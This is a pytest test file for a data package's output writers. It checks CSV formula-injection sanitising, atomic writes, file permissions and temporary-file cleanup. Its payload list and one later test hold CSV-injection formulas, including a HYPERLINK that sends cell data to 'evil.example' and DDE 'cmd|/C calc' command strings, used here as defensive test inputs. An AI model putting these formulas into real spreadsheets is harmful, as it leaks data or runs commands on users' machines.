"""Files the package writes: CSV cells safe in a spreadsheet, atomic writes, ordinary permissions."""

import csv
import os
import shutil
import subprocess
import sys

import pandas as pd
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from insights.data.output_files import (
    FORMULA_TRIGGERS,
    output_folder,
    process_alive,
    sanitise_cell,
    sanitise_frame,
    stale_temporary,
    write_atomic,
    write_csv,
)
from insights.errors import ContractError, ParameterError

# Payloads from the OWASP CSV-injection page and the audit of issue 13.
PAYLOADS = [
    '=HYPERLINK("http://evil.example?x="&A1,"Error: click")',
    "=cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]
# Text that a spreadsheet would read as a formula: starts with a trigger and is not just a number.
hostile = st.one_of(
    st.sampled_from(PAYLOADS),
    st.builds(lambda t, rest: t + rest, st.sampled_from(FORMULA_TRIGGERS), st.text(max_size=15)),
    st.text(max_size=15),
)


def _is_plain_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return cell.strip() == cell and cell.lower().lstrip("+-") not in ("inf", "infinity", "nan")


def _safe(cell: str) -> bool:
    """What the OWASP advice asks of a cell: no formula trigger first, unless it is only a number."""
    return not cell.startswith(FORMULA_TRIGGERS) or _is_plain_number(cell)


@given(hostile)
@example("-3")
@example("+1.5e3")
@example("-")
def test_a_sanitised_cell_is_safe_and_reads_as_the_original(value):
    cell = sanitise_cell(value)
    assert _safe(cell)
    assert cell == value or cell == "'" + value  # readable: the original after one quote
    assert (cell != value) == (value.startswith(FORMULA_TRIGGERS) and not _is_plain_number(value))


def test_numbers_and_other_values_are_not_touched():
    assert sanitise_cell(-3.5) == -3.5 and sanitise_cell(-2) == -2 and sanitise_cell(None) is None
    assert sanitise_cell("-42") == "-42" and sanitise_cell("Acme - West") == "Acme - West"
    assert sanitise_cell("=1+1") == "'=1+1"


@given(st.lists(st.tuples(hostile, hostile, st.floats(-1e6, 1e6, allow_nan=False)), min_size=1, max_size=8))
def test_every_text_cell_of_a_written_csv_is_safe(tmp_path_factory, rows):
    path = tmp_path_factory.getbasetemp() / "property" / "list.csv"
    frame = pd.DataFrame(rows, columns=["name", "=segment", "arr"]).assign(
        tier=lambda f: pd.Categorical(f["name"]), when=pd.Timestamp("2026-01-01"), n=-1
    )
    write_csv(frame, path, force=True)
    with path.open(newline="", encoding="utf-8") as fh:
        header, *body = list(csv.reader(fh))
    assert header == ["name", "'=segment", "arr", "tier", "when", "n"]
    assert all(_safe(cell) for row in body for cell in row)
    assert len(body) == len(frame)  # no cell broke its row
    assert [float(r[2]) for r in body] == [float(f"{v:.6g}") for v in frame["arr"]]  # numbers stay numbers
    assert {r[5] for r in body} == {"-1"}
    assert [r[0] for r in body] == list(frame["name"].map(sanitise_cell))  # readable: the text after a quote


def test_sanitise_frame_keeps_index_and_numeric_columns():
    frame = pd.DataFrame({"a": ["=x", "y"], "b": [-1, 2]}, index=[5, 9])
    out = sanitise_frame(frame)
    assert list(out.index) == [5, 9] and out["b"].tolist() == [-1, 2] and out["a"].tolist() == ["'=x", "y"]
    assert frame["a"].tolist() == ["=x", "y"]  # the input is not changed


def test_every_csv_writer_of_the_report_sanitises(tmp_path):
    from insights.analyses.renewals import owners
    from insights.analyses.renewals import pipeline as renewals

    assert renewals.write_csv is write_csv and owners.write_csv is write_csv
    ranked = pd.DataFrame({"account_id": ["A1"], "name": ["=cmd|'/C calc'!A0"], "p_churn": [0.5]})
    path = renewals.write_csv(ranked, tmp_path / "worklist.csv")
    assert path.read_text().splitlines()[1] == "A1,'=cmd|'/C calc'!A0,0.5"
    with pytest.raises(ParameterError, match="already exists"):
        renewals.write_csv(ranked, tmp_path / "worklist.csv")


@pytest.fixture
def umask_022():
    old = os.umask(0o022)
    yield
    os.umask(old)


def test_written_files_are_readable_by_others(tmp_path, umask_022):
    from insights.report import headlines

    csv_path = write_csv(pd.DataFrame({"a": [1]}), tmp_path / "a.csv")
    text_path = write_atomic(tmp_path / "b.json", "{}")
    new_path = write_atomic(tmp_path / "c.csv", b"x", overwrite=False)
    headline = headlines.save(tmp_path, "01_x", "X", {"k": "v"})
    for path in (csv_path, text_path, new_path, headline):
        assert path.stat().st_mode & 0o777 == 0o644, path
    os.umask(0o077)  # the umask is respected
    assert write_atomic(tmp_path / "d.txt", "x").stat().st_mode & 0o777 == 0o600


def test_a_pilot_record_and_its_plan_are_created_0644_and_never_overwritten(tmp_path, umask_022):
    import numpy as np

    from insights.analyses.pilots import assignment

    plan = assignment.PilotPlan(
        pilot_id="perm_test", description="d", assigned_at="2025-10-01", window=("2025-10-01", "2026-03-31"), seed=1
    )
    accounts = pd.DataFrame({"account_id": [f"A{i}" for i in range(20)], "segment": np.repeat(["SMB", "Ent"], 10)})
    drawn = assignment.draw(plan, accounts)
    csv_path = assignment.record(drawn, tmp_path)
    _, meta = assignment.pilot_files(tmp_path, "perm_test")
    assert csv_path.stat().st_mode & 0o777 == 0o644 and meta.stat().st_mode & 0o777 == 0o644
    before = csv_path.read_bytes()
    with pytest.raises(FileExistsError):
        write_atomic(csv_path, "other", overwrite=False)
    assert csv_path.read_bytes() == before
    assert sorted(p.name for p in csv_path.parent.iterdir()) == ["perm_test.csv", "perm_test.json"]


def test_a_failed_write_leaves_no_temporary_file(tmp_path):
    def boom(fh):
        fh.write("half")
        raise RuntimeError("disk full")

    with pytest.raises(RuntimeError):
        write_atomic(tmp_path / "x.csv", boom)
    assert list(tmp_path.iterdir()) == []


def test_stale_temporaries_are_those_of_dead_processes(tmp_path):
    child = subprocess.Popen([sys.executable, "-c", "pass"])
    child.wait()
    assert process_alive(os.getpid()) and not process_alive(child.pid) and not process_alive(0)
    assert stale_temporary(tmp_path / f".risk_list.csv.tmp-{child.pid}-0a1b2c3d")
    assert stale_temporary(tmp_path / f".2026Q3.tmp-{child.pid}")
    assert not stale_temporary(tmp_path / f".2026Q3.tmp-{os.getpid()}")
    assert not stale_temporary(tmp_path / "2026Q3") and not stale_temporary(tmp_path / ".2026Q3.backup-1")


def test_output_folder_removes_only_what_a_failed_block_created(tmp_path):
    (tmp_path / "kept").mkdir()
    with pytest.raises(RuntimeError), output_folder(tmp_path / "kept" / "a" / "b"):
        raise RuntimeError("failed")
    assert [p.name for p in tmp_path.iterdir()] == ["kept"] and not any((tmp_path / "kept").iterdir())
    with output_folder(tmp_path / "new" / "c") as folder:
        (folder / "out.txt").write_text("x")
    assert (tmp_path / "new" / "c" / "out.txt").exists()


def _events_dir(tiny_demo_dir, tmp_path, account_id=None):
    raw = tmp_path / "raw"
    raw.mkdir()
    for name in ("accounts", "contracts", "users"):
        shutil.copy(tiny_demo_dir / f"{name}.csv", raw / f"{name}.csv")
    users = pd.read_csv(raw / "users.csv", dtype=str).dropna(subset=["activated_at"]).head(3)
    pd.DataFrame(
        {
            "account_id": account_id or users["account_id"],
            "user_id": users["user_id"],
            "ts": pd.Timestamp("2026-09-05").as_unit("us"),
            "feature": "reports",
        }
    ).to_parquet(raw / "usage_events.parquet", index=False)
    return raw


def test_a_failed_usage_monthly_run_leaves_no_empty_folder(tiny_demo_dir, tmp_path):
    from insights.metrics.usage import build_usage_monthly

    raw = _events_dir(tiny_demo_dir, tmp_path, account_id="A_NOPE")
    out = tmp_path / "processed" / "monthly" / "usage_monthly.parquet"
    with pytest.raises(ContractError, match="unknown accounts"):
        build_usage_monthly(raw, out, memory_limit="256MB", now=pd.Timestamp("2026-11-01"))
    assert sorted(p.name for p in tmp_path.iterdir()) == ["raw"]


def test_usage_monthly_is_written_0644(tiny_demo_dir, tmp_path, umask_022):
    from insights.metrics.usage import build_usage_monthly

    raw = _events_dir(tiny_demo_dir, tmp_path)
    out = tmp_path / "processed" / "usage_monthly.parquet"
    summary = build_usage_monthly(raw, out, memory_limit="256MB", now=pd.Timestamp("2026-11-01"))
    assert summary.rows > 0 and out.stat().st_mode & 0o777 == 0o644
    assert [p.name for p in out.parent.iterdir()] == [out.name]


def test_the_table_cache_is_readable_and_drops_killed_entries(tiny_demo_dir, tmp_path, monkeypatch, umask_022):
    from insights.data import table_cache
    from insights.data.loading import cache_tables, load_tables

    monkeypatch.setenv("INSIGHTS_PROCESSED_DIR", str(tmp_path / "processed"))
    tables = load_tables(tiny_demo_dir, use_cache=False)
    hashes, stats = table_cache.hashes_and_stats(tiny_demo_dir)
    dead = subprocess.Popen([sys.executable, "-c", "pass"])
    dead.wait()
    killed = table_cache.cache_root() / f".abc.tmp-{dead.pid}-0a0b0c0d"  # an entry whose writer was killed
    killed.mkdir(parents=True)
    (killed / "accounts.parquet").write_bytes(b"half")
    entry = cache_tables(tables, hashes, stats)
    assert not killed.exists()
    made = list((tmp_path / "processed").rglob("*"))
    assert made and entry in made
    for p in made:
        assert p.stat().st_mode & 0o777 == (0o755 if p.is_dir() else 0o644), p
    assert not [p for p in made if ".tmp-" in p.name]
